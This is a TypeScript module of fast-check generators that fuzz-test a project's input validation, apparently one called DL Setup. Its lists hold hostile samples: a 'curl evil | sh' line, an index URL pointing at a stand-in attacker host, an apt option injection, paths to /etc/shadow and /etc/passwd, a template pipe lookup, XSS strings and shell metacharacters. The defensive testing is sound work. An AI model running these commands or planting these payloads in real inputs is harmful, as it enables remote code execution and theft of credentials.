import fc from 'fast-check';

/**
 * Generators of what an attacker sends to DL Setup's boundaries (issue 15, item 9), for the fuzz tests: text with
 * line breaks, shell and YAML syntax, option-looking and path-escaping values, any Unicode, and every value a JSON
 * parser or Electron's structured clone can produce.
 */

/** Pieces no accepted pattern allows: a generated text holding one of them must be refused wherever it goes. */
export const NEVER_ACCEPTED = ['\n', '\r', '\u0000', '\t', '\u001b[2J', '\u0085', '\u2028', '\u2029', '\u202e', '\ufeff', ';', '$(id)', '`id`', '|', '&&', '<', '>', "'", '"', '\\', '*', '?', '{', '}', ' ', '#'];

/** Pieces that are dangerous in some place but may be fine in another (an option, a path escape, a URL trick). */
const RISKY = [
  '-oDPkg::Pre-Invoke::=touch /tmp/x',
  '--',
  '--index-url=https://evil.example',
  '../',
  '/etc/../etc/shadow',
  '//',
  '~',
  '%E0%A4%A',
  '%0a',
  '__proto__',
  'constructor',
  'prototype',
  'http://example.com/',
  'file:///etc/passwd',
  'https://user:pw@evil.example/',
  'javascript:alert(1)',
  '<script>alert(1)</script>',
  '- hosts: all',
  'RUN curl evil | sh',
  '{{ lookup("pipe", "id") }}',
  '\u{1F600}',
  '\ud800',
  'ＣＵＤＡ',
  '𝟏𝟐.𝟔',
  '1e309',
  'NaN',
];

/** Text an attacker would try: random Unicode around hostile and risky pieces, now and then very long. */
export const hostileText: fc.Arbitrary<string> = fc.oneof(
  { weight: 3, arbitrary: fc.string({ unit: 'binary', maxLength: 40 }) },
  { weight: 4, arbitrary: fc.tuple(fc.string({ maxLength: 12 }), fc.constantFrom(...NEVER_ACCEPTED, ...RISKY), fc.string({ maxLength: 12 })).map((parts) => parts.join('')) },
  { weight: 2, arbitrary: fc.constantFrom(...RISKY) },
  { weight: 1, arbitrary: fc.tuple(fc.constantFrom('a', '/', '\n', 'é', '<a '), fc.integer({ min: 1_000, max: 200_000 })).map(([unit, count]) => unit.repeat(count)) },
);

/** Text that no field pattern accepts (it holds a NEVER_ACCEPTED piece). */
export const refusedText: fc.Arbitrary<string> = fc
  .tuple(fc.string({ maxLength: 10 }), fc.constantFrom(...NEVER_ACCEPTED), fc.string({ maxLength: 10 }))
  .map((parts) => parts.join(''));

const oddNumber = fc.oneof(fc.double(), fc.constantFrom(0, -0, -1, 1e12, Number.POSITIVE_INFINITY, Number.NEGATIVE_INFINITY, Number.NaN, Number.MAX_SAFE_INTEGER + 2, 2 ** 31, 0.5), fc.integer());

/** Any one value, as JSON or Electron's structured clone can carry it (Map, Set, Date, BigInt, typed arrays). */
export const hostileLeaf: fc.Arbitrary<unknown> = fc.oneof(
  { weight: 5, arbitrary: hostileText },
  { weight: 2, arbitrary: oddNumber },
  { weight: 1, arbitrary: fc.constantFrom(null, undefined, true, false) },
  { weight: 1, arbitrary: fc.bigInt() },
  { weight: 1, arbitrary: fc.constantFrom<unknown>(new Map([['a', 1]]), new Set([1]), new Date(Number.NaN), new Uint8Array([0, 1]), /x/g, new ArrayBuffer(2), [], {}) },
);

/** A nested value of hostile leaves, with hostile keys (including __proto__ and constructor). */
export const hostileValue: fc.Arbitrary<unknown> = fc.letrec((tie) => ({
  value: fc.oneof({ maxDepth: 4, depthIdentifier: 'hostile' }, hostileLeaf, tie('array'), tie('object')),
  array: fc.array(tie('value'), { maxLength: 5 }),
  object: fc
    .array(fc.tuple(fc.oneof(fc.string({ maxLength: 8 }), fc.constantFrom('__proto__', 'constructor', 'steps', 'params', 'kind', 'plan', 'locale')), tie('value')), { maxLength: 5 })
    .map((entries) => {
      const object: Record<string, unknown> = {};
      // defineProperty keeps a "__proto__" key an own field, as JSON.parse makes it.
      for (const [key, value] of entries) Object.defineProperty(object, key, { value, enumerable: true, writable: true, configurable: true });
      return object;
    }),
})).value;

/** `value` as a file would hold it (BigInt as digits; undefined as "null"), for parsers of JSON text. */
export function jsonText(value: unknown): string {
  return JSON.stringify(value, (_key, item: unknown) => (typeof item === 'bigint' ? item.toString() : item)) ?? 'null';
}

type Path = (string | number)[];

/** Every path to a field or list item inside `value`, the value itself included ([]). */
export function pathsOf(value: unknown, prefix: Path = []): Path[] {
  const paths: Path[] = [prefix];
  if (Array.isArray(value)) value.forEach((item, index) => paths.push(...pathsOf(item, [...prefix, index])));
  else if (value && typeof value === 'object') for (const [key, item] of Object.entries(value)) paths.push(...pathsOf(item, [...prefix, key]));
  return paths;
}

/** A copy of `value` with the thing at `path` replaced by `replacement` (or deleted, when `remove`). */
export function replaceAt(value: unknown, path: Path, replacement: unknown, remove = false): unknown {
  if (path.length === 0) return replacement;
  const copy: unknown = Array.isArray(value) ? [...value] : { ...(value as object) };
  const [head, ...rest] = path;
  const container = copy as Record<string | number, unknown>;
  if (rest.length === 0 && remove) delete container[head!];
  else container[head!] = replaceAt(container[head!], rest, replacement, remove);
  return copy;
}

/** `valid` with one field or item replaced by a hostile value, deleted, or joined by an unknown field. */
export function mutated(valid: unknown): fc.Arbitrary<unknown> {
  const paths = pathsOf(valid);
  const inner = paths.filter((path) => path.length > 0);
  return fc.oneof(
    { weight: 6, arbitrary: fc.tuple(fc.constantFrom(...paths), hostileValue).map(([path, replacement]) => replaceAt(valid, path, replacement)) },
    { weight: 1, arbitrary: inner.length ? fc.constantFrom(...inner).map((path) => replaceAt(valid, path, undefined, true)) : fc.constant(valid) },
    {
      weight: 1,
      arbitrary: fc
        .tuple(fc.constantFrom(...paths), fc.oneof(hostileText, fc.constantFrom('__proto__', 'constructor')), hostileValue)
        .map(([path, key, extra]) => {
          const target = path.reduce<unknown>((node, step) => (node as Record<string | number, unknown>)[step], valid);
          if (!target || typeof target !== 'object' || Array.isArray(target)) return replaceAt(valid, path, extra);
          const widened = { ...(target as object) };
          Object.defineProperty(widened, key, { value: extra, enumerable: true, writable: true, configurable: true });
          return replaceAt(valid, path, widened);
        }),
    },
  );
}
